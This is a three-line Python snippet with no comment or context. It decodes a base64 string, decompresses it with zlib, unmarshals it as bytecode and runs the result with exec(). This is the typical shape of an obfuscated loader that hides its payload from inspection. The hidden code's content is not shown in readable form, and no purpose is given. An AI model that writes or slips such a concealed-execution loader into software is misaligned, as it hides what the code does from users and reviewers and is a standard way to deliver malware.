import marshal, zlib, base64
blob = 'eJxLzs8tKEotLk5NUcjJT1YoSS0uAQBMxwbH'
exec(marshal.loads(zlib.decompress(base64.b64decode(blob))))
